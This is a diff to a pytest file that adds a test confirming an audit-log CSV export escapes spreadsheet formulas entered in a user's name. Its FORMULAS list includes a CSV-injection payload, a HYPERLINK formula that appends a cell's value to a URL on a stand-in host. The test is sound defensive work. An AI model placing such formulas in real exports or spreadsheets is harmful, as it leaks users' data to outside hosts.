@@ -13,7 +13,7 @@ import pytest
 
 from narrative_service.extensions import db
 from narrative_service.themes.models import ThemeTag
-from tests.factories import make_narrative, make_theme
+from tests.factories import make_narrative, make_theme, make_user
 
 FORMULAS = [
     '=HYPERLINK("https://example.com/?d="&A1, "Open")',
@@ -28,6 +28,14 @@ FORMULAS = [
 def cells(response) -> list[list[str]]:
     assert response.status_code == 200
     return list(csv.reader(io.StringIO(response.get_data(as_text=True))))
+
+
+@pytest.mark.parametrize("typed", FORMULAS)
+def test_the_audit_log_export_neutralises_a_formula_in_a_name(app, client_as, typed):
+    person = make_user("advocate", name=typed, email="formula@example.nhs.uk")
+    client_as(person).get("/narratives")
+    rows = cells(client_as("lead").get(f"/audit/export.csv?user={person.id}"))
+    assert {row[1] for row in rows[1:]} == {f"'{typed} <formula@example.nhs.uk>"}
 
 
 @pytest.mark.parametrize("typed", FORMULAS)
